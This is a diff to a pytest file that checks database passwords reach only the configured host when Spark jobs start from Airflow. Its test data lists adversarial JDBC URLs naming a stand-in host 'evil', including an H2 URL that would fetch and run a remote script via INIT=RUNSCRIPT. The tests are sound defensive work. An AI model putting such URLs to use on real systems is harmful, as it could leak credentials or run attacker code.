@@ -12,6 +12,7 @@ from typing import TYPE_CHECKING, Any
 import pytest
 
 from sessionizer.control.records.plan_record import PlanRecord
+from sessionizer.state.seeds.database import leads_to
 from sessionizer_airflow.operating.jobs import CarryOut, MakePlan, requested
 from sessionizer_airflow.operating.request import request_id
 from sessionizer_airflow.operators.failed_task import PersonNeeded
@@ -53,7 +54,7 @@ def spark_submit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     program.chmod(0o755)
     monkeypatch.setenv("PATH", f"{program.parent}{os.pathsep}{os.environ['PATH']}")
     monkeypatch.setenv("AIRFLOW_CONN_SPARK_DEFAULT", json.dumps({"conn_type": "spark", "host": "local[1]"}))
-    shop = {"conn_type": "postgres", "host": "db", "login": "ann", "password": PASSWORD}
+    shop = {"conn_type": "postgres", "host": "db", "port": 5432, "login": "ann", "password": PASSWORD}
     monkeypatch.setenv("AIRFLOW_CONN_SHOP", json.dumps(shop))
     return place
 
@@ -105,6 +106,38 @@ def test_the_form_and_the_plan_hold_the_name_of_the_connection_only(project: Pro
     assert PASSWORD not in str(kept.to_json())
 
 
+@pytest.mark.parametrize("job", [plan, carry_out])
+@pytest.mark.parametrize("place", [{"host": "elsewhere", "port": 5432}, {"host": "db"}])
+def test_nobody_but_the_connections_own_database_gets_the_password(
+    project: Project, spark_submit: Path, monkeypatch: pytest.MonkeyPatch, job: Any, place: dict[str, Any]
+) -> None:
+    other = {"conn_type": "postgres", "login": "ann", "password": PASSWORD, **place}
+    monkeypatch.setenv("AIRFLOW_CONN_SHOP", json.dumps(other))
+    task, given = job(project)
+    with pytest.raises(PersonNeeded, match=r"history is 'jdbc:postgresql://db:5432/shop'; allowed: jdbc:…://"):
+        task.execute(given)
+    assert not spark_submit.exists()
+
+
+@pytest.mark.parametrize(
+    ("url", "host", "port", "leads"),
+    [
+        ("jdbc:postgresql://db:5432/shop", "db", 5432, True),
+        ("jdbc:postgresql://db/shop", "db", None, True),
+        ("jdbc:postgresql://[::1]:5432/shop", "[::1]", 5432, True),
+        ("jdbc:postgresql://db:5432,evil:5432/shop", "db", 5432, False),
+        ("jdbc:postgresql://db:5432/shop?PGHOST=evil", "db", 5432, False),
+        ("jdbc:postgresql://evil/db:5432", "db", 5432, False),
+        ("jdbc:postgresql://ann@db:5432/shop", "db", 5432, False),
+        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'", "db", None, False),
+        ("jdbc:postgresql://db/shop?sslmode=require", "jdbc:postgresql://db/shop?sslmode=require", None, True),
+        ("jdbc:postgresql://evil/shop", "jdbc:postgresql://db/shop", None, False),
+    ],
+)
+def test_an_address_leads_to_one_host(url: str, host: str, port: int | None, leads: bool) -> None:
+    assert leads_to(url, host, port) == leads
+
+
 @pytest.mark.parametrize(
     ("connection", "spark", "message"),
     [
@@ -131,7 +164,9 @@ def test_without_a_way_for_the_password_nothing_is_started(
 ) -> None:
     monkeypatch.delenv("AIRFLOW_CONN_SHOP")
     if connection is not None:
-        monkeypatch.setenv("AIRFLOW_CONN_SHOP", json.dumps({"conn_type": "postgres", "host": "db", **connection}))
+        monkeypatch.setenv(
+            "AIRFLOW_CONN_SHOP", json.dumps({"conn_type": "postgres", "host": "db", "port": 5432, **connection})
+        )
     if spark:
         monkeypatch.setenv("AIRFLOW_CONN_SPARK_DEFAULT", json.dumps({"conn_type": "spark", **spark}))
     task, given = plan(project)
